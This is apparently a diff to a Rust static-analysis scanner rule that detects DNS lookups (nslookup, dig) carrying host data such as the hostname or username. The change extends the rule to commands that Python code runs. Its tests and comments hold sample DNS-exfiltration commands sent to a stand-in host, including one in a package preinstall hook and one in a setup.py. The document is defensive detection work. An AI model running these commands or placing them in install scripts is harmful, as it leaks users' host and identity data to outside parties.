@@ -19,10 +19,10 @@ const HOST_DATA: &[&str] =
 pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
     // In code, looking up the host's own name is how distributed frameworks find their own
     // address (`gethostbyname(gethostname())`); a fingerprint sent from code is SA-101's.
-    if !is_script(ctx.file) {
-        return;
-    }
-    for c in ctx.facts.calls.iter().filter(|c| LOOKUPS.contains(&c.name.as_str())) {
+    // A command line the code runs (`os.system("nslookup $(whoami).x.example")`) is a script's.
+    let script = is_script(ctx.file);
+    let command = |c: &&crate::facts::Call| script || c.options.iter().any(|o| o == crate::facts::python::COMMAND);
+    for c in ctx.facts.calls.iter().filter(|c| LOOKUPS.contains(&c.name.as_str())).filter(command) {
         let arg = c.first.as_deref().unwrap_or("").to_ascii_lowercase();
         if HOST_DATA.iter().any(|h| arg.contains(h)) && (arg.contains('`') || arg.contains('$') || arg.contains('%')) {
             out.push(Hit::new(&RULE, c.line, format!("{} {}", c.name, arg.chars().take(100).collect::<String>())));
@@ -38,6 +38,9 @@ mod tests {
     #[test]
     fn fires_on_host_data_in_names() {
         assert!(fired("package.json#scripts.preinstall", "nslookup `hostname`.x.example", INSTALL).contains(&"SA-023"));
+        // A command line Python runs, assembled from a list.
+        let py = "import subprocess\nsubprocess.run(['sh', '-c', 'dig $(whoami).x.example'])\n";
+        assert!(fired("setup.py", py, INSTALL).contains(&"SA-023"));
     }
 
     #[test]
